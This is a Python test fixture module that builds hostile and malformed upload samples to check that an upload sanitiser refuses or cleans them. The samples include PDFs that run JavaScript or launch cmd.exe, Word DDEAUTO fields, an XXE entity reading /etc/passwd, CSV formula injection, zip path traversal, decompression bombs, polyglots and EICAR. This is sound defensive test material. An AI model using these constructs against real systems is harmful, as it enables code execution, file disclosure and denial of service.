"""Files that somebody sends by mistake or by malice, by name: what they are called, and how they are made."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass

import pikepdf
from PIL import Image

from tests.papers import JPEG, PAGES, PDF, PNG, docx_of, pdf_of, picture, xlsx_of

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
PROGRAM = b"MZ\x90\0\x03\0\0\0" + b"\0" * 200
PAGE = b"<script>alert(1)</script>"
CLEANED, KEPT, REFUSED = "cleaned", "kept", "refused"
HARMLESS = ("PDF: lists in lists", "PDF: table of many objects", "PDF: packed objects that swell")


@dataclass(frozen=True)
class Sample:
    """A file, and what comes of it: refused, kept without what is wrong with it, or as it came: it does nothing."""

    name: str
    file_name: str
    make: Callable[[], bytes]
    then: str = REFUSED


def catalogue(entries: bytes, *more: bytes) -> bytes:
    """A PDF whose catalogue says more; further objects are numbered from 4."""
    return pdf_of((PAGES[0][:-2] + entries + b" >>", *PAGES[1:]), more=more)


def page(entries: bytes, *more: bytes) -> bytes:
    return pdf_of((*PAGES[:2], PAGES[2][:-2] + entries + b" >>"), more=more)


def annotation(entries: bytes, *more: bytes) -> bytes:
    return page(b"/Annots [<< /Type /Annot /Rect [0 0 9 9] %s >>]" % entries, *more)


def swelling() -> bytes:
    """Objects packed a thousand times smaller than they are."""
    raw = b"9 0 " + b" " * 100_000_000
    body = zlib.compress(raw, 1)
    head = b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(body)
    content = b"%PDF-1.7\n"
    places = []
    for number, each in enumerate((*PAGES, head + body + b"\nendstream"), start=1):
        places.append(len(content))
        content += b"%d 0 obj\n%s\nendobj\n" % (number, each)
    rows = b"".join(b"\1" + struct.pack(">I", place) + b"\0" for place in places)
    rows = b"\0\0\0\0\0\0" + rows + b"".join(b"\0\0\0\0\0\0" for _row in range(5, 9)) + b"\2\0\0\0\4\0"
    table = b"<< /Type /XRef /Size 10 /W [1 4 1] /Root 1 0 R /Length %d >>" % len(rows)
    start = len(content)
    return content + b"5 0 obj\n%s\nstream\n%s\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % (table, rows, start)


ATTACHED = (b"<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>", b"<< /Length 2 >>\nstream\nMZ\nendstream")
SCRIPT = b"<< /S /JavaScript /JS (app.alert(1)) >>"
PDFS: dict[str, Callable[[], bytes]] = {
    "script when opened": lambda: catalogue(b"/OpenAction " + SCRIPT),
    "script by name": lambda: catalogue(b"/Names << /JavaScript << /Names [(a) 4 0 R] >> >>", SCRIPT),
    "script of a page": lambda: page(b"/AA << /O %s >>" % SCRIPT),
    "script of a link": lambda: annotation(b"/Subtype /Link /A " + SCRIPT),
    "script in hexadecimal": lambda: catalogue(b"/OpenAction << /S /J#61vaScript /J#53 (x) >>"),
    "script after a jump": lambda: catalogue(b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next %s >>" % SCRIPT),
    "script in a packed object": lambda: packed(catalogue(b"/OpenAction 4 0 R", SCRIPT)),
    "script that nothing names": lambda: pdf_of(more=(SCRIPT,)),
    "program started": lambda: catalogue(b"/OpenAction << /S /Launch /F (cmd.exe) >>"),
    "program started by a link": lambda: annotation(b"/Subtype /Link /A << /S /Launch /Win << /F (c.exe) >> >>"),
    "other file opened": lambda: annotation(rb"/Subtype /Link /A << /S /GoToR /F (\\\\host\\a) >>"),
    "embedded file opened": lambda: annotation(b"/Subtype /Link /A << /S /GoToE >>"),
    "address opened by itself": lambda: catalogue(b"/OpenAction << /S /URI /URI (http://a.example/) >>"),
    "address of a page by itself": lambda: page(b"/AA << /O << /S /URI /URI (http://a.example/) >> >>"),
    "address after a jump": lambda: catalogue(b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [<< /S /URI >>] >>"),
    "form sent": lambda: annotation(b"/Subtype /Widget /A << /S /SubmitForm /F (http://a.example/) >>"),
    "data fetched": lambda: annotation(b"/Subtype /Widget /A << /S /ImportData /F (a.fdf) >>"),
    "files embedded": lambda: catalogue(b"/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>", *ATTACHED),
    "file pinned to a page": lambda: annotation(b"/Subtype /FileAttachment /FS 4 0 R", *ATTACHED),
    "file associated": lambda: catalogue(b"/AF [4 0 R]", *ATTACHED),
    "form of XFA": lambda: catalogue(b"/AcroForm << /Fields [] /XFA 4 0 R >>", ATTACHED[1]),
    "rich media": lambda: annotation(b"/Subtype /RichMedia"),
    "solid body": lambda: annotation(b"/Subtype /3D"),
    "film": lambda: annotation(b"/Subtype /Movie /Movie << >>"),
    "sound": lambda: annotation(b"/Subtype /Sound"),
    "rendition": lambda: annotation(b"/Subtype /Screen /A << /S /Rendition >>"),
    "content elsewhere": lambda: page(b"/Contents 4 0 R", b"<< /Length 0 /F (a.bin) >>\nstream\n\nendstream"),
    "content at an address": lambda: pdf_of(more=(b"<< /Type /Filespec /FS /URL /F (http://a.example/) >>",)),
    "page of another file": lambda: pdf_of(more=(b"<< /Type /XObject /Ref << /F (b.pdf) /Page 0 >> >>",)),
    "picture of a print shop": lambda: pdf_of(more=(b"<< /OPI << /2.0 << /F (b.tif) >> >> >>",)),
    "password to open": lambda: locked("secret", "secret"),
    "password to print": lambda: locked("", "secret"),
    "page of the web before it": lambda: b"<html>" + PAGE + PDF,
    "program before it": lambda: PROGRAM + PDF,
    "picture before it": lambda: JPEG[:20] + PDF,
    "archive behind it": lambda: PDF + archive({"a.exe": PROGRAM}),
    "archive around it": lambda: around(PDF),
    "page of the web behind it": lambda: PDF + PAGE + b"\n",
    "program with its suffix": lambda: PROGRAM,
    "page of the web with its suffix": lambda: b"<html>" + PAGE + b"</html>",
    "test virus with its suffix": lambda: EICAR,
    "cut short": lambda: PDF[: len(PDF) // 2],
    "without a page": lambda: pdf_of((PAGES[0], b"<< /Type /Pages /Kids [] /Count 0 >>")),
    "first and last line alone": lambda: b"%PDF-1.4\n%%EOF\n",
    "noise": lambda: b"%PDF-1.4\n" + bytes(range(256)) * 40 + b"\n%%EOF\n",
    "pages in a circle": lambda: pdf_of((PAGES[0], b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>")),
    "lists in lists": lambda: pdf_of(more=(b"[" * 200_000 + b"]" * 200_000,)),
    "a million values": lambda: pdf_of(more=(b"[" + b"[] " * 1_000_000 + b"]",)),
    "table of many objects": lambda: PDF.replace(b"/Size 4", b"/Size 2000000000"),
    "packed objects that swell": swelling,
}


def packed(content: bytes) -> bytes:
    into = io.BytesIO()
    with pikepdf.open(io.BytesIO(content)) as document:
        document.save(into, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return into.getvalue()


def locked(user: str, owner: str) -> bytes:
    into = io.BytesIO()
    with pikepdf.open(io.BytesIO(PDF)) as document:
        document.save(into, encryption=pikepdf.Encryption(user=user, owner=owner))
    return into.getvalue()


def archive(parts: dict[str, bytes], *, packing: int = zipfile.ZIP_DEFLATED) -> bytes:
    into = io.BytesIO()
    with zipfile.ZipFile(into, "w", packing) as made:
        for name, content in parts.items():
            made.writestr(name, content)
    return into.getvalue()


def around(content: bytes) -> bytes:
    """A PDF that is an archive as well: the last line of the one stands in the comment of the other."""
    into = io.BytesIO(content)
    into.seek(0, 2)
    with zipfile.ZipFile(into, "a") as made:
        made.writestr("a.exe", PROGRAM)
        made.comment = b"\n%%EOF\n"
    return into.getvalue()


def chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def png_of(width: int, height: int, rows: bytes, *more: bytes) -> bytes:
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    return PNG[:8] + head + b"".join(more) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def other_form(form: str, mode: str = "RGB", **given: object) -> bytes:
    into = io.BytesIO()
    Image.new(mode, (8, 8)).save(into, form, **given)
    return into.getvalue()


def with_place() -> bytes:
    exif = Image.Exif()
    exif[0x8825] = {1: "N", 2: (31.0, 14.0, 0.0)}
    exif[0x112] = 6
    return picture("JPEG", (16, 8), exif=exif)


WORDS = chunk(b"tEXt", b"a\0" + PAGE)
PICTURES: dict[str, tuple[str, Callable[[], bytes], str]] = {
    "of 3600 million points": ("a.png", lambda: png_of(60_000, 60_000, zlib.compress(bytes(9_000_000), 9)), REFUSED),
    "of 4290 million points": ("a.jpg", lambda: JPEG.replace(b"\0\x08\0\x08", b"\xff\xdc\xff\xdc", 1), REFUSED),
    "small that swells": ("a.png", lambda: png_of(4, 4, zlib.compress(bytes(60_000_000), 9)), CLEANED),
    "whose words swell": (
        "a.png",
        lambda: png_of(4, 4, zlib.compress(bytes(20)), chunk(b"zTXt", b"a\0\0" + zlib.compress(bytes(99_000_000), 9))),
        REFUSED,
    ),
    "photo cut short": ("a.jpg", lambda: picture("JPEG", (900, 900))[:4000], REFUSED),
    "picture cut short": ("a.png", lambda: PNG[:40] + b"IEND", REFUSED),
    "without points": ("a.png", lambda: png_of(0, 0, b""), REFUSED),
    "with wrong sums": ("a.png", lambda: PNG[:30] + b"\0" + PNG[31:], REFUSED),
    "that is a page of the web": ("a.jpg", lambda: PAGE, REFUSED),
    "that is a program": ("a.jpg", lambda: b"\xff\xd8\xff" + PROGRAM + b"\xff\xd9", REFUSED),
    "that is a drawing with a script": ("a.png", lambda: b"<svg>" + PAGE + b"</svg>", REFUSED),
    "that is a gif": ("a.png", lambda: other_form("GIF"), REFUSED),
    "that is a webp": ("a.jpg", lambda: other_form("WEBP"), REFUSED),
    "that is a tiff": ("a.jpg", lambda: other_form("TIFF"), REFUSED),
    "that is a bmp": ("a.png", lambda: other_form("BMP"), REFUSED),
    "that is the other kind": ("a.png", lambda: JPEG, REFUSED),
    "with an archive behind it": ("a.jpg", lambda: JPEG + archive({"a.exe": PROGRAM}) + b"\xff\xd9", CLEANED),
    "with a program behind it": ("a.png", lambda: PNG + PROGRAM + b"IEND", CLEANED),
    "with a script as comment": ("a.jpg", lambda: picture("JPEG", comment=PAGE), CLEANED),
    "with a script as words": (
        "a.png",
        lambda: png_of(1, 1, zlib.compress(bytes(2)), WORDS),
        CLEANED,
    ),
    "with the place it was taken at": ("a.jpg", with_place, CLEANED),
    "in colours of print": ("a.jpg", lambda: other_form("JPEG", "CMYK"), CLEANED),
    "in sixteen bits": ("a.png", lambda: other_form("PNG", "I;16"), CLEANED),
    "that moves": (
        "a.png",
        lambda: other_form("PNG", save_all=True, append_images=[Image.new("RGB", (8, 8), "red")] * 3),
        CLEANED,
    ),
}

RELATIONS = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">%s</Relationships>'
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def changed(content: bytes, **parts: bytes | None) -> bytes:
    """A document with parts replaced, added or left out; __ stands for the slash, and a name has no suffix: .xml."""
    with zipfile.ZipFile(io.BytesIO(content)) as read:
        whole = {name: read.read(name) for name in read.namelist()}
    for name, part in parts.items():
        whole[name.replace("__", "/") if "." in name else f"{name.replace('__', '/')}.xml"] = part or b""
    return archive(whole)


def added(name: str, content: bytes, of: Callable[[], bytes] = docx_of) -> bytes:
    return changed(of(), **{name: content})


def related(kind: str, target: str, mode: str = "External", part: str = "word/_rels/extra.xml.rels") -> bytes:
    relation = f'<Relationship Id="r1" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="{mode}"/>'
    return added(part, (RELATIONS % relation).encode())


def worded(body: str) -> bytes:
    space = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    text = f'<w:document xmlns:w="{space}"><w:body><w:p>{body}</w:p></w:body></w:document>'
    return added("word/document.xml", text.encode())


def flagged_as_locked() -> bytes:
    content = bytearray(docx_of())
    for magic, offset in ((b"PK\x01\x02", 8), (b"PK\x03\x04", 6)):
        content[content.index(magic) + offset] |= 1
    return bytes(content)


def twice() -> bytes:
    into = io.BytesIO(docx_of())
    into.seek(0, 2)
    with zipfile.ZipFile(into, "a") as made:
        made.writestr("word/docum_nt.xml", b"<a/>")
    return into.getvalue().replace(b"docum_nt", b"document")


LAUGHS = b'<!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><a>&c;</a>'
ELSEWHERE = b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
DOCUMENTS: dict[str, Callable[[], bytes]] = {
    "with macros": lambda: added("word/vbaProject.bin", b"\xd0\xcf\x11\xe0"),
    "with macros by another name": lambda: added("word/a.bin", b"\xd0\xcf\x11\xe0macros"),
    "whose kind has macros": lambda: changed(
        docx_of(),
        **{"word/other.xml": b'<Override ContentType="application/vnd.ms-word.document.macroEnabled"/>'},
    ),
    "with an object": lambda: added("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0"),
    "with a program for a picture": lambda: added("word/media/image1.png", PROGRAM),
    "with an archive for a picture": lambda: added("word/media/image1.png", archive({"a": b"b"})),
    "with a program": lambda: added("word/a.exe", PROGRAM),
    "with a control": lambda: added("word/activeX/activeX1.xml", b"<a/>"),
    "with a template elsewhere": lambda: related("attachedTemplate", "http://a.example/a.dotm"),
    "with a picture elsewhere": lambda: related("image", "http://a.example/a.png"),
    "with an object elsewhere": lambda: related("oleObject", "mhtml:http://a.example/"),
    "with a frame": lambda: related("frame", "a.htm"),
    "with a part of another kind": lambda: related("aFChunk", "a.htm", "Internal"),
    "with a document in it": lambda: related("subDocument", "b.docx"),
    "that asks another program": lambda: worded('<w:fldSimple w:instr=" DDEAUTO c:\\\\cmd.exe"/>'),
    "that asks in pieces": lambda: worded(
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE</w:instrText></w:r>'
        "<w:r><w:instrText>AUTO c:\\cmd.exe</w:instrText></w:r>"
    ),
    "that fetches a text": lambda: worded('<w:fldSimple w:instr="INCLUDETEXT &quot;http://a.example/&quot;"/>'),
    "that fetches a picture": lambda: worded('<w:fldSimple w:instr=" includepicture a"/>'),
    "with entities that swell": lambda: added("word/document.xml", LAUGHS),
    "with an entity elsewhere": lambda: added("docProps/core.xml", ELSEWHERE),
    "in another encoding": lambda: added("word/other.xml", "<a/>".encode("utf-16")),
    "with broken markup": lambda: added("word/other.xml", b"<a><b></a>"),
    "with a password": flagged_as_locked,
    "of the old kind": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
    "that swells": lambda: added("word/media/image1.bmp", bytes(40_000_000)),
    "with a part outside": lambda: added("../../outside.xml", b"<a/>"),
    "with a part twice": twice,
    "with 700 parts": lambda: changed(docx_of(), **{f"word/p{number}.xml": b"<a/>" for number in range(700)}),
    "that is a workbook": lambda: xlsx_of([1]),
    "that is any archive": lambda: archive({"a.txt": b"b"}),
    "that is a PDF as well": lambda: archive({"a.txt": PDF}, packing=zipfile.ZIP_STORED) + docx_of(),
    "cut short": lambda: docx_of()[:9000],
    "that is a page of the web": lambda: b"<html>" + PAGE,
    "that is a program": lambda: PROGRAM,
}
BOOKS: dict[str, Callable[[], bytes]] = {
    "with a workbook elsewhere": lambda: added("xl/externalLinks/externalLink1.xml", b"<a/>", xlsx_of),
    "with macros": lambda: added("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0", xlsx_of),
    "with an object": lambda: added("xl/embeddings/a.docx", b"PK\x03\x04", xlsx_of),
    "with entities": lambda: added("xl/worksheets/sheet1.xml", LAUGHS, xlsx_of),
    "that swells": lambda: added("xl/media/image1.bmp", bytes(40_000_000), xlsx_of),
    "cut short": lambda: xlsx_of([1])[:2000],
    "that is a document": docx_of,
    "of the old kind": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
    "that is a page of the web": lambda: b"<html>" + PAGE,
    "that is a program": lambda: PROGRAM,
}


def swelling_ods() -> bytes:
    into = io.BytesIO()
    with zipfile.ZipFile(into, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet", zipfile.ZIP_STORED)
        made.writestr("content.xml", bytes(40_000_000))
    return into.getvalue()


OTHERS: dict[str, tuple[str, Callable[[], bytes]]] = {
    "empty": ("a.pdf", lambda: b""),
    "one byte": ("a.jpg", lambda: b"\xff"),
    "zeros": ("a.docx", lambda: bytes(100_000)),
    "too large": ("a.pdf", lambda: PDF + bytes(21 * 1024 * 1024)),
    "plain words": ("a.txt", lambda: b"see above"),
    "formulas": ("a.csv", lambda: b"=cmd|'/c calc'!A0,1\n"),
    "one endless line": ("a.csv", lambda: b"a," * 4_000_000),
    "rich text": ("a.rtf", lambda: rb"{\rtf1 {\object\objdata 01}}"),
    "spreadsheet that swells": ("a.ods", swelling_ods),
    "test virus": ("eicar.com", lambda: EICAR),
    "test virus in an archive": ("a.zip", lambda: archive({"eicar.com": EICAR})),
}


def samples() -> Iterator[Sample]:
    """All of them."""
    for name, make in PDFS.items():
        yield Sample(f"PDF: {name}", "证明.pdf", make, KEPT if f"PDF: {name}" in HARMLESS else REFUSED)
    for name, (file_name, make, then) in PICTURES.items():
        yield Sample(f"picture {name}", file_name, make, then)
    for name, make in DOCUMENTS.items():
        yield Sample(f"document {name}", "总结.docx", make)
    for name, make in BOOKS.items():
        yield Sample(f"workbook {name}", "清单.xlsx", make)
    for name, (file_name, make) in OTHERS.items():
        yield Sample(f"file: {name}", file_name, make)
